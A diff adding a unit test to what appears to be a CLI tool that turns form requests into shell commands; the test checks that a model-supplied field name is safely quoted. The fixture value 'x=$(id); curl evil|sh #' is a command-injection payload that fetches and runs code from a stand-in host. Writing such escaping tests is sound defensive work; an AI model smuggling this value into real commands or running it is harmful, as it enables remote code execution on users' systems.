@@ -104,6 +104,27 @@ describe("an approval", () => {
     expect(text).toMatch(/approve:\n {2}send_mail .*\n {2}delete_file {}/);
     expect(text).toContain("\n  troupe answer run mail --reject REASON\n");
   });
+
+  it("puts nothing into a command that a shell would act on, whatever a model calls its fields", () => {
+    const field_name = "x=$(id); curl evil|sh #";
+    const fields = [
+      {
+        field_name,
+        field_label: "",
+        field_description: "",
+        field_type: "text" as const,
+        field_values: [],
+        default_value: null,
+        placeholder: "",
+        required: true,
+      },
+    ];
+    const form = { title: "Who?", description: "", fields };
+    const asked = { step: "s", request: { requestId: "r", kind: "form" as const, form } };
+    expect(answerCommands({ env: {} }, "run", asked)).toEqual([
+      "troupe answer run s --input 'x=$(id); curl evil|sh #=...'",
+    ]);
+  });
 });
 
 it("refuses a verdict where values are asked for", async () => {
